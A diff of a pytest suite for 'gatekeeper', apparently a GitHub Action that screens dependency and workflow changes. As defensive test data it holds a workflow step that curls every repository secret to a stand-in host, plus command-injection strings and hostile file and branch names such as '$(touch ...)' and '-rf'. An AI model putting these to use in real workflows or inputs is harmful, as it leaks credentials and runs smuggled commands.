@@ -12,6 +12,9 @@ from typing import TYPE_CHECKING, Any
 import pytest
 import yaml
 
+from gatekeeper.commands.action import FAILS, INPUT
+from gatekeeper.commands.action import Job as Judging
+from gatekeeper.errors import UndecidedError, UsageError
 from tests.action.runner import ACTION, ROOT, Runner
 from tests.support import attacks
 from tests.support.clients import NEWEST
@@ -24,7 +27,7 @@ if TYPE_CHECKING:
 
 GATEKEEPER = str(Path(sys.executable).with_name("gatekeeper"))
 AUTHOR = ("-c", "user.name=Ada", "-c", "user.email=ada@people.example")
-NOBODY = "0" * 40
+NOBODY, COMMIT = "0" * 40, "0123456789abcdef0123456789abcdef01234567"
 STEP = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
 
 
@@ -68,6 +71,14 @@ def used(runner: Runner, **inputs: str) -> Job:
     return runner.uses(gatekeeper=GATEKEEPER, **inputs)
 
 
+def job_of(folder: Path, event: str = "push", payload: str = "{}", **inputs: str) -> Judging:
+    """What the program makes of an event and inputs, without a run."""
+    (folder / "event.json").write_text(payload, "utf-8")
+    environ = {"GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(folder / "event.json")}
+    environ |= {f"{INPUT}{name.upper().replace('-', '_')}": value for name, value in inputs.items()}
+    return Judging({**environ, "GITHUB_OUTPUT": str(folder / "output")}, folder)
+
+
 def report(job: Job) -> dict[str, Any]:
     found: dict[str, Any] = json.loads(Path(job.outputs["report"]).read_bytes())
     return found
@@ -97,7 +108,10 @@ class TestPullRequests:
         assert {row["name"] for row in report(job)["releases"]} == {"mossgarden", ".github/workflows/a.yml"}
 
     def test_a_workflow_that_takes_the_secrets_is_refused_at_its_line(self, ground: Ground) -> None:
-        theft = STEP + '      - run: curl -d "$ALL" https://files.example/\n        env:\n          ALL: ${{ toJSON(secrets) }}\n'
+        theft = (
+            STEP
+            + '      - run: curl -d "$ALL" https://files.example/\n        env:\n          ALL: ${{ toJSON(secrets) }}\n'
+        )
         job = used(proposed(ground, {".github/workflows/a.yml": theft}))
         assert job.code == 10
         assert any("file=.github/workflows/a.yml,line=" in each for each in job.annotations)
@@ -135,80 +149,105 @@ class TestOtherEvents:
         before = commit(ground, {"requirements.txt": hostile})
         commit(ground, {"other.txt": "nothing\n"})
         assert used(Runner(ground, "push", {"before": before})).code == 0
-        for payload in ({"before": NOBODY}, {"before": before, "forced": True}):
-            assert used(Runner(ground, "push", payload)).code == 10
-
-    def test_a_queue_is_held_against_its_base(self, ground: Ground, hostile: str) -> None:
-        base = commit(ground, {"requirements.txt": "mossgarden==1.0\n"})
-        commit(ground, {"requirements.txt": hostile})
-        assert used(Runner(ground, "merge_group", {"merge_group": {"base_sha": base}})).code == 10
 
     def test_without_a_change_everything_is_judged(self, ground: Ground, hostile: str) -> None:
-        base = commit(ground, {"requirements.txt": hostile})
+        commit(ground, {"requirements.txt": hostile})
         assert used(Runner(ground)).code == 10
-        assert used(Runner(ground, "push", {"before": base}), base="none").code == 10
 
-    @pytest.mark.parametrize("payload", ["", "[]", '{"pull_request": 5}', '{"pull_request": {"base": {"sha": "--all"}}}'])
-    def test_a_payload_that_tells_nothing_is_no_success(self, ground: Ground, payload: str) -> None:
-        commit(ground, {"requirements.txt": "mossgarden==1.0\n"})
-        job = used(Runner(ground, "pull_request", payload))
-        assert job.code == 12
-        assert "`base`" in job.err
+    @pytest.mark.parametrize(
+        ("event", "payload", "base"),
+        [
+            ("pull_request", {"pull_request": {"base": {"sha": COMMIT}}}, COMMIT),
+            ("push", {"before": COMMIT}, COMMIT),
+            ("push", {"before": COMMIT, "forced": True}, None),
+            ("push", {"before": NOBODY}, None),
+            ("merge_group", {"merge_group": {"base_sha": COMMIT}}, COMMIT),
+            ("schedule", {}, None),
+            ("workflow_dispatch", {}, None),
+        ],
+    )
+    def test_each_event_has_its_base(self, tmp_path: Path, event: str, payload: object, base: str | None) -> None:
+        assert job_of(tmp_path, event, json.dumps(payload)).base() == base
+        assert job_of(tmp_path, event, json.dumps(payload), base="main").base() == "main"
+        assert job_of(tmp_path, event, json.dumps(payload), base="none").base() is None
+
+    @pytest.mark.parametrize(
+        "payload", ["", "[]", "[" * 5000, "5", '{"pull_request": 5}', '{"pull_request": {"base": {"sha": "--all"}}}']
+    )
+    def test_a_payload_that_tells_nothing_is_no_success(self, tmp_path: Path, payload: str) -> None:
+        with pytest.raises(UndecidedError):
+            job_of(tmp_path, "pull_request", payload).base()
 
 
 class TestInputs:
-    @pytest.mark.parametrize(
-        ("fail_on", "code"), [("ask", 10), ("error", 10), ("block", 10), ("never", 0), ("often", 2)]
-    )
-    def test_a_block_fails_the_step_unless_nothing_does(
-        self, ground: Ground, hostile: str, fail_on: str, code: int
+    @pytest.mark.parametrize(("fail_on", "fails"), FAILS.items())
+    @pytest.mark.parametrize(("ruling", "code"), [("allow", 0), ("ask", 11), ("error", 12), ("block", 10)])
+    def test_a_ruling_fails_the_step_where_it_is_to(
+        self, tmp_path: Path, fail_on: str, fails: frozenset[str], ruling: str, code: int
     ) -> None:
-        job = used(proposed(ground, {"requirements.txt": hostile}), fail_on=fail_on)
-        assert job.code == code
-        assert job.outputs.get("ruling") == (None if code == 2 else "block")
+        job = job_of(tmp_path, **{"fail-on": fail_on})
+        job.path("report.json").write_text(json.dumps({"ruling": ruling}), "utf-8")
+        assert job.concluded(code) == (code if ruling in fails else 0)
+        assert f"ruling={ruling}\n" in (tmp_path / "output").read_text("utf-8")
 
-    @pytest.mark.parametrize(("fail_on", "code"), [("ask", 11), ("error", 0), ("block", 0)])
-    def test_a_question_fails_only_where_it_is_to(self, ground: Ground, fail_on: str, code: int) -> None:
-        job = used(proposed(ground, {"a/action.yml": "runs:\n  steps:\n    - uses: a/b@main\n"}), fail_on=fail_on)
-        assert (job.code, job.outputs["ruling"]) == (code, "ask")
+    @pytest.mark.parametrize(
+        "report", ["", "{}", '{"ruling": "allowed"}', '{"ruling": "allow"}', '{"ruling": "error"}']
+    )
+    @pytest.mark.parametrize("code", [2, 130])
+    def test_a_mistake_or_an_end_before_time_fails_whatever_is_asked_for(
+        self, tmp_path: Path, report: str, code: int
+    ) -> None:
+        job = job_of(tmp_path, **{"fail-on": "never"})
+        job.path("report.json").write_text(report, "utf-8")
+        assert job.concluded(code) == code
 
-    def test_a_mistake_in_the_policy_fails_whatever_is_asked_for(self, ground: Ground) -> None:
-        (ground.home / "p.toml").write_text("[rulings]\nnone-such = 'block'\n", "utf-8")
-        runner = proposed(ground, {"requirements.txt": "mossgarden==1.1\n"})
-        assert used(runner, policy=str(ground.home / "p.toml"), fail_on="never").code == 2
+    def test_without_a_report_nothing_is_fine(self, tmp_path: Path) -> None:
+        assert job_of(tmp_path, **{"fail-on": "never"}).concluded(0) == 12
+
+    @pytest.mark.parametrize("name", ["fail-on", "comment"])
+    def test_a_word_that_is_not_known_is_a_mistake(self, tmp_path: Path, name: str) -> None:
+        with pytest.raises(UsageError, match=name):
+            job_of(tmp_path, **{name: "perhaps"}).words()
+
+    def test_a_block_is_told_even_where_it_fails_nothing(self, ground: Ground, hostile: str) -> None:
+        job = used(proposed(ground, {"requirements.txt": hostile}), fail_on="never")
+        assert (job.code, job.outputs["ruling"]) == (0, "block")
+
+    def test_a_question_fails_the_step(self, ground: Ground) -> None:
+        job = used(proposed(ground, {"a/action.yml": "runs:\n  steps:\n    - uses: a/b@main\n"}))
+        assert (job.code, job.outputs["ruling"]) == (11, "ask")
 
     def test_paths_are_one_a_line(self, ground: Ground, hostile: str) -> None:
         commit(ground, {"requirements.txt": hostile, "a b/requirements.txt": "mossgarden==1.1\n"})
-        assert used(Runner(ground), paths="a b/requirements.txt\n").code == 0
-        assert used(Runner(ground), paths="a b/requirements.txt\nrequirements.txt\n").code == 10
+        job = used(Runner(ground), paths="a b/requirements.txt\n", format="json")
+        assert (job.code, json.loads(job.out)["ruling"]) == (0, "allow"), job.text
 
-    def test_the_log_can_have_another_format(self, ground: Ground) -> None:
-        job = used(proposed(ground, {"requirements.txt": "mossgarden==1.1\n"}), format="json")
-        assert json.loads(job.out)["ruling"] == "allow"
+    def test_a_path_that_is_not_there_is_a_mistake_and_no_empty_success(self, ground: Ground) -> None:
+        job = used(proposed(ground, {"requirements.txt": "mossgarden==1.1\n"}), paths="requirement.txt")
+        assert (job.code, job.outputs["ruling"]) == (2, "error")
 
     def test_a_comment_is_written_and_not_posted(self, ground: Ground, hostile: str) -> None:
         job = used(proposed(ground, {"requirements.txt": hostile}), comment="true")
         assert "mossgarden 1.2" in Path(job.outputs["comment"]).read_text("utf-8")
-        assert "comment" not in used(Runner(ground), paths="requirements.txt").outputs
 
     @pytest.mark.parametrize(
-        "words", ["$(touch {marker})", "`touch {marker}`", '"; touch {marker}; "', "x\ny=$(touch {marker})", "--help"]
+        "words", ["$(touch {marker})`touch {marker}`\"; touch {marker}; '\nx=$(touch {marker})", "--help"]
     )
     def test_whatever_an_input_or_a_branch_says_is_no_code(self, ground: Ground, words: str) -> None:
         said = words.format(marker=ground.marker)
         runner = proposed(ground, {"requirements.txt": "mossgarden==1.1\n"}, head={"ref": said})
-        for name in ("paths", "base", "policy", "fail_on", "format", "comment", "wrap"):
-            job = used(runner, **{name: said})
-            assert job.code in (2, 12), (name, job.code, job.err)
+        for names in (("paths",), ("base", "policy", "fail_on", "format", "comment"), ("wrap",)):
+            job = used(runner, **dict.fromkeys(names, said))
+            assert job.code in (2, 12), (names, job.text)
             assert "fault of our own" not in job.err
         assert not ground.marker.exists()
 
-    @pytest.mark.parametrize("name", ["$(touch x).txt", "a'b", 'a"b', "a\nb", "-rf", "::error::hi"])
-    def test_nor_is_the_name_of_a_file_or_branch(self, ground: Ground, hostile: str, name: str) -> None:
-        branch = "".join(each for each in name if each.isalnum() or each in "$(')\"") or "b"
-        runner = proposed(ground, {f"{name}/requirements.txt": hostile}, branch=f"b-{branch}")
+    def test_nor_is_the_name_of_a_file_or_branch(self, ground: Ground, hostile: str) -> None:
+        names = ("$(touch x).txt", "a'b", 'a"b', "a\nb", "-rf", "::error::hi")
+        runner = proposed(ground, {f"{name}/requirements.txt": hostile for name in names}, branch="b-$(touch${IFS}x)'")
         job = used(runner)
         assert job.code == 10
+        assert len(report(job)["releases"]) == len(names)
         assert not any(line.startswith("::error::hi") for line in job.out.splitlines())
         assert not list(ground.project.glob("x"))
         assert set(job.outputs) == {"ruling", "report", "sarif"}
@@ -264,6 +303,6 @@ class TestTheFile:
             ground.write(name, f"open({str(ground.marker)!r}, 'w')\n")
         ground.environ |= {"PIP_NO_INDEX": "1"}
         job = Runner(ground).uses(python=sys.executable)
-        assert job.code != 0  # there is no index to fetch the dependencies from
+        assert job.code != 0  # there is no index to fetch what builds gatekeeper
         assert (ground.folder / "runner" / "temp" / "gatekeeper" / "bin" / "python").exists()
         assert not ground.marker.exists()
